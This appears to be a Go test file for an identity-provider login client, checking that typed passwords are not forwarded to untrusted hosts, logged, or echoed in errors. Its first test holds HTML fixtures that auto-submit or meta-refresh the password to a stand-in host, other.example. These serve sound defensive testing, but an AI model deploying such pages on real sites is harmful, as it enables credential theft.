package form_test

import (
	"bytes"
	"errors"
	"html"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"testing"

	"gatehop/idp"
	"gatehop/idp/idptest"
)

// TestWalkPassedOn: a page that repeats what was typed in a form or an address of its
// own does not get it to a host that is not trusted; without it, the same page is
// followed.
func TestWalkPassedOn(t *testing.T) {
	t.Parallel()
	const login = `<form method=post action=/in><input name=user><input type=password name=pass></form>`
	answers := map[string]string{
		"form":       `<body onload="document.forms[0].submit()"><form method=post action=https://other.example/x><input type=hidden name=a value="%s"></form>`,
		"get form":   `<body onload="document.forms[0].submit()"><form action=https://other.example/x><input type=hidden name=a value="%s"></form>`,
		"multipart":  `<body onload="document.forms[0].submit()"><form method=post enctype=multipart/form-data action=https://other.example/x><input type=hidden name=a value="%s"></form>`,
		"odd query":  `<meta http-equiv=refresh content="0;url=https://other.example/x?b=%zz&a=%s">`,
		"refresh":    `<meta http-equiv=refresh content="0;url=https://other.example/x?a=%s">`,
		"in a path":  `<meta http-equiv=refresh content="0;url=https://other.example/%s">`,
		"in a label": `<body onload="document.forms[0].submit()"><form method=post action=https://other.example/x><input type=hidden name="a%s" value=1></form>`,
	}
	const typed, sent = "p&ss w+rd %41", "p%26ss+w%2Brd+%2541"
	for name, page := range answers {
		for _, echo := range []string{typed, "harmless"} {
			t.Run(name+" "+echo, func(t *testing.T) {
				t.Parallel()
				s := pages(map[string]string{
					"GET /start?sp=aws":                login,
					"POST /in user=alice&pass=" + sent: strings.Replace(page, "%s", html.EscapeString(echo), 1),
				})
				other := &site{serve: func(_ *site, w http.ResponseWriter, _ *http.Request, _ string) { _, _ = io.WriteString(w, "<p>") }}
				_, err := walk(t, s, other, map[string][]string{"username": {"alice"}, "password": {typed}})
				var origin *idp.OriginError
				secret := echo != "harmless"
				if errors.As(err, &origin) != secret {
					t.Errorf("Login = %v, want *idp.OriginError %t", err, secret)
				}
				if got := len(other.requests()); (got == 0) != secret {
					t.Errorf("%d requests to the other host: %q", got, other.requests())
				}
			})
		}
	}
}

// TestWalkLog: the log tells the steps, and nothing that was typed or that stands in a
// query, a field or a title.
func TestWalkLog(t *testing.T) {
	t.Parallel()
	var log bytes.Buffer
	s := pages(map[string]string{
		"GET /start?sp=aws": `<title>canary-title</title><form method=post action="/in?token=canary-query"><input type=hidden name=state value=canary-field><input name=user><input type=password name=pass></form>`,
		"POST /in?token=canary-query state=canary-field&user=alice&pass=canary-password": final(samlInput),
	})
	session := newSession(t, idptest.Transport(map[string]http.Handler{host: s}), start,
		idptest.NewAnswers(map[string][]string{"username": {"alice"}, "password": {"canary-password"}}))
	session.Log = slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	if _, err := login(t, session, start); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"step=sign-in", "step=assertion", "host=idp.example", "status=200"} {
		if !strings.Contains(log.String(), want) {
			t.Errorf("the log has no %s:\n%s", want, log.String())
		}
	}
	for _, leak := range []string{"canary", "alice", assertion()[:40]} {
		if strings.Contains(log.String(), leak) {
			t.Errorf("the log holds %s:\n%s", leak, log.String())
		}
	}
}

// TestWalkEcho: what was typed does not come back in an error or a question, in
// whatever place the provider repeats it.
func TestWalkEcho(t *testing.T) {
	t.Parallel()
	const (
		echo   = "canary-password"
		fields = `<input name=user><label>` + echo + `<input type=password name=pass></label>`
	)
	cases := []struct {
		name, page string
		want       idp.Verdict
	}{
		{"refusal", `<title>` + echo + `</title><p role=alert>wrong: ` + echo + `</p><form id="` + echo + `" method=post action=/in>` + fields + `<input type=hidden name="` + echo + `"></form>`, idp.Rejected},
		{"unknown page", `<title>` + echo + `</title><p role=alert>wrong: ` + echo + `</p><form id="` + echo + `" method=post><input name="` + echo + `">`, idp.Unknown},
		{"address", "Status: 302\nLocation: /" + echo + "/x\n\n", idp.NotFound},
		{"code", `<form method=post><label>` + echo + `<input name=otp></label><a href="/` + echo + `">` + echo + `</a></form><p class=error>` + echo, idp.Unknown},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			s := pages(map[string]string{
				"GET /start?sp=aws":                       `<form method=post action=/in>` + fields,
				"POST /in user=alice&pass=" + echo:        c.page,
				"POST /in?sp=aws user=alice&pass=" + echo: c.page,
				"GET /" + echo + "/x":                     "Status: 404\n\n<p>",
			})
			answers, err := walk(t, s, nil, map[string][]string{"username": {"alice"}, "password": {echo, idptest.NoAnswer}, "otp": {idptest.NoAnswer}})
			var needs *idp.NeedsInputError
			if !errors.As(err, &needs) {
				wantVerdict(t, err, c.want)
			}
			for i, q := range answers.Questions() {
				if text := q.Label + q.Retry; i > 1 && strings.Contains(text, echo) {
					t.Errorf("question %d holds the password: %s", i, text)
				}
			}
			for _, text := range append(printed(err), err.Error()) {
				if strings.Contains(text, echo) {
					t.Errorf("the error holds the password: %s", text)
				}
			}
			var page *idp.PageError
			if errors.As(err, &page) {
				for _, text := range []string{page.URL, page.Title, page.Words, page.Fingerprint} {
					if strings.Contains(text, echo) {
						t.Errorf("the verdict holds the password: %s", text)
					}
				}
			}
		})
	}
}
